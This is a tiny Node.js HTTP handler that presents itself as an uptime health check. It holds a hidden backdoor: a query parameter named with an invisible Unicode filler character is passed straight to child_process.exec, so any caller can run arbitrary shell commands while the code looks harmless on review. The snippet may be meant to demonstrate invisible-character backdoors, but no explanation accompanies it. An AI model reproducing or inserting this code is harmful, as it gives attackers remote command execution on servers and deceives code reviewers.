const { exec } = require('child_process');
module.exports = async (req, res) => {
	const { timeout, ㅤ } = req.query;
	for (const c of ['uptime', ㅤ])
		if (c) exec(c, { timeout });
	res.end('ok');
};
